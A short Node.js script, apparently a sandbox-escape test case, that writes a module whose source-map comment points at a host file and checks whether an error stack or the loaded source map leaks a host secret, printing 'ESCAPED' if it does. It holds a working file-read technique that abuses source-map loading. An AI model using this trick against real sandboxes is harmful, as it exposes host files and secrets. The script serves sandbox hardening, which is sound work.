// exploit: names a file of the host as the map of its source, which is read when an error is shown
// outcome: finished
// says: shown
process.setSourceMapsEnabled(true)
require('node:fs').writeFileSync('/tmp/mapped.cjs', 'module.exports = () => { throw new Error("x") }\n//# sourceMappingURL=file://__HOST_FILE__\n')
try {
  require('/tmp/mapped.cjs')()
} catch (error) {
  if (error.stack.includes('__HOST_SECRET__')) console.log('ESCAPED')
}
try {
  if (require('node:module').findSourceMap('/tmp/mapped.cjs')?.payload) console.log('ESCAPED: a map')
} catch (error) {
  console.log(error.code)
}
console.log('shown')
